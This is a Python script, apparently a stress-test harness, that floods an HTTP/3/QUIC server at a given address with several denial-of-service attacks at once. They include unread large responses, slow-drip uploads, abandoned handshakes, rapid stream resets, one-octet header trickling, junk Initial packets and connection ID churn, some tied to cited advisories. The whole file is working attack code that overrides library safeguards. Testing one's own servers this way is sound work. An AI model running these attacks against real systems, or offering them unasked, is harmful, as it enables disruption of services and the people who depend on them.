#!/usr/bin/env python3
"""hostile: clients that mean harm, all at once, for a time.

    hostile 10.0.0.1 443 20

Each of these goes on until the time is over, on new connections whenever its own are closed:

    unread      asks for long responses and takes nothing of them (GHSA-7ghq-v6jf-g56c)
    uploads     sends an octet of a promised body now and then
    handshakes  begins handshakes and never goes on (solana#26019)
    resets      cancels each request as soon as it is sent
    trickle     sends a request's head in frames of one octet
    junk        sends Initial packets that nothing can decrypt, each with another connection ID
    retire      retires every connection ID it is given

It ends with the number of attempts of each, as JSON. The libraries below would not send most of it; here they are told
to.
"""
import asyncio
import collections
import json
import os
import socket
import ssl
import sys
import time

from aioquic.asyncio.client import connect
from aioquic.asyncio.protocol import QuicConnectionProtocol
from aioquic.h3.connection import H3_ALPN, H3Connection, FrameType, encode_frame
from aioquic.quic.configuration import QuicConfiguration
from aioquic.quic.connection import QuicConnection
from aioquic.quic.events import ConnectionTerminated

ATTEMPTS = collections.Counter()


class Http3(QuicConnectionProtocol):
    """A connection whose answers the client does not read."""

    def __init__(self, quic, **others):
        super().__init__(quic, **others)
        self.h3, self.closed = H3Connection(quic), False

    def quic_event_received(self, event):
        self.closed |= isinstance(event, ConnectionTerminated)

    def stream(self):
        return self._quic.get_next_available_stream_id()

    def fields(self, method, path, *more):
        return [(b":method", method), (b":scheme", b"https"), (b":authority", b"a.test"), (b":path", path), *more]


def configuration(**options):
    return QuicConfiguration(
        is_client=True, alpn_protocols=H3_ALPN, verify_mode=ssl.CERT_NONE, server_name="localhost", **options
    )


async def unread(client, until):
    """Windows are never opened, so nothing of the responses leaves the router but the first octets."""
    client._quic._write_connection_limits = lambda **_: None
    client._quic._write_stream_limits = lambda **_: None
    for _ in range(60):
        client.h3.send_headers(client.stream(), client.fields(b"GET", b"/bytes/1000000"), end_stream=True)
        ATTEMPTS["unread"] += 1
    client.transmit()
    while time.monotonic() < until and not client.closed:
        client._quic.send_ping(0)
        client.transmit()
        await asyncio.sleep(0.5)


async def uploads(client, until):
    streams = [client.stream()]
    for _ in range(16):
        stream = client.stream()
        client.h3.send_headers(stream, client.fields(b"POST", b"/sink", (b"content-length", b"100000")))
        streams.append(stream)
        ATTEMPTS["uploads"] += 1
    while time.monotonic() < until and not client.closed:
        for stream in streams[1:]:
            try:
                client.h3.send_data(stream, b"x", False)
            except Exception:
                pass  # it was reset
        client.transmit()
        await asyncio.sleep(1)


async def resets(client, until):
    while time.monotonic() < until and not client.closed:
        for _ in range(20):
            stream = client.stream()
            client.h3.send_headers(stream, client.fields(b"GET", b"/bytes/1000"), end_stream=False)
            client._quic.reset_stream(stream, 0x10C)
            ATTEMPTS["resets"] += 1
        client.transmit()
        await asyncio.sleep(0.02)


async def trickle(client, until):
    """40 KB of a field section, an octet in each STREAM frame."""
    fields = client.fields(b"GET", b"/bytes/1000", *((b"x-%d" % i, b"v" * 400) for i in range(100)))
    while time.monotonic() < until and not client.closed:
        stream = client.stream()
        _, section = client.h3._encoder.encode(stream, fields)
        ATTEMPTS["trickle"] += 1
        for i, octet in enumerate(encode_frame(FrameType.HEADERS, section)):
            client._quic.send_stream_data(stream, bytes([octet]), False)
            if i % 50 == 0:
                client.transmit()
                await asyncio.sleep(0.002)
            if client.closed or time.monotonic() >= until:
                return


async def retire(client, until):
    while time.monotonic() < until and not client.closed:
        for _ in range(5):
            client._quic.change_connection_id()
            ATTEMPTS["retire"] += 1
        client._quic.send_ping(0)
        client.transmit()
        await asyncio.sleep(0.02)


async def again(address, how, until):
    """On one connection after another."""
    while time.monotonic() < until:
        options = {"max_data": 2_000, "max_stream_data": 1_000} if how is unread else {}
        try:
            async with connect(
                *address, configuration=configuration(**options), create_protocol=Http3, wait_connected=False
            ) as client:
                client.transmit()
                await asyncio.wait_for(client.wait_connected(), 5)
                await how(client, until)
                client.close()
        except Exception:
            pass  # refused or closed: it comes again
        await asyncio.sleep(0.1)


async def handshakes(address, until):
    """First flights of proper clients, which then say nothing more."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        while time.monotonic() < until:
            quic = QuicConnection(configuration=configuration())
            quic.connect(address, now=time.monotonic())
            for datagram, _ in quic.datagrams_to_send(now=time.monotonic()):
                sender.sendto(datagram, address)
            ATTEMPTS["handshakes"] += 1
            await asyncio.sleep(0.02)


async def junk(address, until):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        while time.monotonic() < until:
            for _ in range(10):
                head = b"\xc3\x00\x00\x00\x01\x08" + os.urandom(8) + b"\x00\x00\x44\x9a"
                sender.sendto(head + os.urandom(1200 - len(head)), address)
                ATTEMPTS["junk"] += 1
            await asyncio.sleep(0.02)


async def main():
    address, until = (sys.argv[1], int(sys.argv[2])), time.monotonic() + float(sys.argv[3])
    kinds = [unread, unread, uploads, resets, trickle, retire]
    await asyncio.gather(
        *(again(address, how, until) for how in kinds), handshakes(address, until), junk(address, until)
    )
    print(json.dumps(ATTEMPTS))


asyncio.run(main())
